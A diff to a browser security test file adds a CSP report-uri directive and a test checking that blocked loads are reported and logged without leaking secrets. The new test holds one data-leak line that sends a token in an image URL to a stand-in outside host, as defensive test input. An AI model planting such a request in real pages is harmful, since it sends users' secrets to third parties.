@@ -25,6 +25,7 @@ test('V1.3.2 V3.4.3 V3.4.6 V3.4.8 V3.6.1 V14.2.3 V14.3.3 the page forbids script
       `base-uri 'none'`,
       `form-action 'self'`,
       `frame-ancestors 'none'`,
+      `report-uri /policy-reports`,
     ].join('; '),
   )
   expect(headers).toMatchObject({
@@ -52,6 +53,21 @@ test('V1.3.2 V3.4.3 V3.4.6 V3.4.8 V3.6.1 V14.2.3 V14.3.3 the page forbids script
   await page.getByRole('button', { name: 'Logout' }).click()
   await expect(page).toHaveURL('/login')
   expect(await page.evaluate(keptByBrowser)).toEqual([[], [scrolled], ''])
+})
+
+test('V3.4.7 what a browser keeps from loading is reported, and stands in the log', async ({
+  browser,
+  portal,
+}) => {
+  // A page of its own: that of the test fails where anything is kept from loading.
+  const page = await browser.newPage()
+  await page.goto(`${portal.url}/login`)
+  await page.evaluate(() => {
+    new Image().src = 'https://elsewhere.example/pixel?token=secret'
+  })
+  await expect.poll(() => portal.printed()).toContain('"blocked":"https://elsewhere.example"')
+  expect(portal.printed()).not.toContain('token=secret')
+  await page.close()
 })
 
 test('V13.4.1 V13.4.3 V13.4.5 V13.4.7 what is not the page or a built file is not served', async ({
